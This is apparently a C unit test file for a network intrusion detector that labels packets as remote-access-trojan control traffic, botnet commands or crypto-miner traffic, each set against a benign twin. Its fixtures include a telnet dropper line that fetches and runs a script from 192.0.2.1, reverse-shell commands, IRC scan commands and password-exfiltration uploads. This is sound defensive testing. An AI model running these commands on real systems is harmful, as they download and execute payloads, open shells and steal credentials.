/* Tests of control.h. */
#include "tests/unit/detector/segment.h"

#include "detector/control.h"

static enum control said(uint16_t from, uint16_t to, const void *bytes, size_t size)
{
    struct packet packet = segment_copy(6, from, to, bytes, size);
    enum control control = control_of(&packet);

    segment_free(&packet);
    return control;
}
#define ROW(from, to, text, control)                                                                                 \
    {                                                                                                                \
        from, to, text, sizeof(text) - 1, control                                                                    \
    }
#define KEY32 "0123456789abcdef0123456789abcdef"
#define HELLO "\x16\3\1\0\x57\2\0\0\x53\3\1" KEY32 KEY32 "\x16\3\1\2\0\x0b"

static const struct {
    uint16_t from, to;
    const char *text;
    size_t length;
    enum control control;
} rows[] = {
    ROW(4444, 40000, "MZARUH\x89\xe5", CONTROL_FRAME),
    ROW(4444, 40000, "MZRE\xe8\0\0\0\0[", CONTROL_FRAME),
    ROW(4444, 40000, "MZREQWER", CONTROL_NONE), /* a line of base64 */
    ROW(4444, 40000, "\0\xa0\2\0MZARUH\x89\xe5", CONTROL_FRAME),
    ROW(4444, 40000, "\0\1\0\0MZARUH\x89\xe5", CONTROL_NONE), /* too small for what it says to be */
    ROW(4444, 40000, "\0\xa0\2\0MZ\x90\0\3\0\0\0", CONTROL_NONE),
    ROW(40000, 5552, "155\0ll|'|'|SGFja2Vk", CONTROL_FRAME),
    ROW(40000, 5552, "act|'L'|c", CONTROL_FRAME),
    ROW(40000, 5552, "name|'a'|b", CONTROL_NONE),
    ROW(40000, 5552, "ll|'|", CONTROL_NONE),
    ROW(40000, 1790, "ping|STRRAT|1BE8292C|", CONTROL_FRAME),
    ROW(40000, 1790, "ping|something|", CONTROL_NONE),
    ROW(40000, 2404, "\x24\4\xff\0\x4b\0\0\0", CONTROL_FRAME),
    ROW(1604, 40000, "BF7CAB464EFB", CONTROL_FRAME),
    ROW(40000, 443, "\0\xff\5\0\0\0\xe2\0\x20\0\0", CONTROL_FRAME),
    ROW(40000, 443, "\0\xff\6\0\0\0\xe2\0\x20\0\0", CONTROL_NONE),
    ROW(40000, 6318, "CONNECT=P4CK3T=a", CONTROL_FRAME),
    ROW(1604, 40000, "BF7CAB464EFB00", CONTROL_NONE),
    ROW(40000, 3360, "\x41\0\0\0\x99" KEY32 KEY32, CONTROL_FRAME),
    ROW(40000, 27017, "\x41\0\0\0\x99" KEY32 "0123456789abcdef0123456789ab",
        CONTROL_NONE), /* MongoDB counts all of it */
    ROW(40000, 4444, "PS C:\\Users\\anna> ", CONTROL_FRAME),
    ROW(40000, 4444, "PS: C:\\Users\\anna is full> ", CONTROL_NONE),
    ROW(40000, 4444, " Volume in drive C has no label.", CONTROL_FRAME),
    ROW(23, 40000, " Volume in drive C has no label.", CONTROL_NONE),
    ROW(40000, 4444, "bash: no job control in this shell\n", CONTROL_FRAME),
    ROW(4444, 40000, "whoami\n", CONTROL_FRAME),
    ROW(4444, 40000, "whoami is a command\n", CONTROL_NONE),
    ROW(40000, 23, "whoami\r\n", CONTROL_NONE),
    ROW(4444, 40000, "python3 -c 'import pty; pty.spawn(1)'\n", CONTROL_FRAME),
    ROW(4444, 40000, "python3 -c 'import sys'\n", CONTROL_NONE),
    ROW(40000, 23, "/bin/busybox MIRAI\r\n", CONTROL_BOT),
    ROW(40000, 23, "/bin/busybox wget\r\n", CONTROL_NONE),
    ROW(40000, 23, "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI\r\n", CONTROL_BOT),
    ROW(40000, 23, "/bin/busybox ifconfig; /bin/busybox df\r\n", CONTROL_NONE),
    ROW(40000, 23, "cd /tmp; wget http://192.0.2.1/a.sh; chmod 777 a.sh; sh a.sh\r\n", CONTROL_BOT),
    ROW(40000, 23, "cd /tmp; wget http://192.0.2.1/firmware.bin\r\n", CONTROL_NONE),
    ROW(40000, 23, "cd /tmp; ls -la\r\n", CONTROL_NONE),
    ROW(40000, 21405, "\6\x8a\2\x1chttp://tempuri.org/Entity/Id1\x19net.tcp", CONTROL_BOT),
    ROW(40000, 808, "\6\x8a\2\x1chttp://tempuri.org/IEntity/GetById", CONTROL_NONE),
    ROW(1024, 40000, "!* SCANNER ON\n", CONTROL_BOT),
    ROW(1024, 40000, "!* Note: the scanner\n", CONTROL_NONE),
    ROW(6667, 40000, ":a!b@c PRIVMSG #d :.advscan lsass 100 5 0 -r\r\n", CONTROL_BOT),
    ROW(6667, 40000, ":a!b@c PRIVMSG #d :have you seen .advscan in the logs?\r\n", CONTROL_NONE),
    ROW(40000, 6667, "NICK [USA|XP|482910]\r\n", CONTROL_BOT),
    ROW(40000, 6667, "NICK [afk]bob|away\r\n", CONTROL_NONE),
    ROW(40000, 6667, "NICK bot-17\r\n", CONTROL_NONE),
    ROW(40000, 1868, "NICK bot-17\r\n", CONTROL_CHAT),
    ROW(1868, 40000, "NOTICE bot-17 :done\r\n", CONTROL_CHAT),
    ROW(40000, 5000, "NOTICE worker 17: done\n", CONTROL_NONE), /* a log's */
    ROW(40000, 3333, "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}", CONTROL_MINER),
    ROW(40000, 3333, "{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"4\",\"agent\":\"XMRig/6\"}}",
        CONTROL_MINER),
    ROW(40000, 3333, "{\"id\":1,\"method\":\"subscribe\",\"text\":\"what is mining.subscribe\"}", CONTROL_NONE),
    ROW(40000, 21, "STOR PW_anna-PC_2024_01_02.html\r\n", CONTROL_BOT),
    ROW(40000, 21, "STOR PW_notes.html\r\n", CONTROL_NONE),
    ROW(40000, 587, "MIME-Version: 1.0\r\nFrom: a@b\r\nSubject: PW_anna/PC\r\n\r\n", CONTROL_BOT),
    ROW(40000, 587, "MIME-Version: 1.0\r\nFrom: a@b\r\nSubject: Re: PW_anna/PC\r\n\r\n", CONTROL_NONE),
    ROW(6606, 40000, HELLO "AsyncRAT Server", CONTROL_FRAME),
    ROW(6606, 40000, HELLO "Example Server", CONTROL_NONE),
    ROW(443, 40000, HELLO "\x55\4\x08\x0c\1\x31\x31\x0a", CONTROL_FRAME),
    ROW(443, 40000, HELLO "\x55\4\x08\x0c\2\x31\x31\x0a", CONTROL_NONE),
};

static void each_says_what_it_is_and_its_twin_does_not(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        enum control got = said(rows[i].from, rows[i].to, rows[i].text, rows[i].length);

        if (got != rows[i].control)
            fail_msg("row %zu, %s: %d", i, rows[i].text, (int)got);
    }
}

static bool datagram(uint16_t to, const char *bytes, size_t size)
{
    struct packet packet = segment_copy(17, 40000, to, bytes, size);
    bool found = control_in_datagram(&packet);

    segment_free(&packet);
    return found;
}

#define DATAGRAM(to, text) datagram(to, text, sizeof(text) - 1)

static void bots_talk_by_datagram_too(void **state)
{
    static const char asked[] = "abcd\x28\x94\x8d\xab\xc9\xc0\xd1\x99zzzz";
    static const char told[] = "abcd\x28\x94\x8d\xbe\xc9\xc0\xd1\x99zzzzz";
    static const char mozi[] = "d1:ad2:id20:88888888abcdefghijkle1:q4:ping1:t2:aa1:y1:qe";
    static const char node[] = "d1:ad2:id20:8888888aabcdefghijkle1:q4:ping1:t2:aa1:y1:qe";

    (void)state;
    assert_true(datagram(16464, asked, 16));
    assert_false(datagram(16464, asked, 17));
    assert_true(datagram(16464, told, 17));
    assert_true(datagram(16464, mozi, sizeof mozi - 1));
    assert_false(datagram(16464, node, sizeof node - 1));
    assert_true(DATAGRAM(69, "\0\1msblast.exe\0octet"));
    assert_false(DATAGRAM(16464, "\0\1msblast.exe\0octet"));
    assert_false(DATAGRAM(69, "\0\2msblast.exe\0octet")); /* written, not fetched */
    assert_false(DATAGRAM(69, "\0\1boot/x64/bootmgr.exe\0octet"));
    assert_false(DATAGRAM(69, "\0\1phone.cnf.xml\0octet"));
    for (size_t cut = 4; cut < 14; cut++)
        assert_false(datagram(69, "\0\1msblast.exe", cut));
    for (size_t cut = 4; cut < 16; cut++)
        assert_false(datagram(16464, mozi, cut) || datagram(16464, asked, cut));
}

static void every_cut_is_safe(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        for (size_t cut = 4; cut < rows[i].length; cut++)
            (void)said(rows[i].from, rows[i].to, rows[i].text, cut);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(each_says_what_it_is_and_its_twin_does_not),
        cmocka_unit_test(every_cut_is_safe),
        cmocka_unit_test(bots_talk_by_datagram_too),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
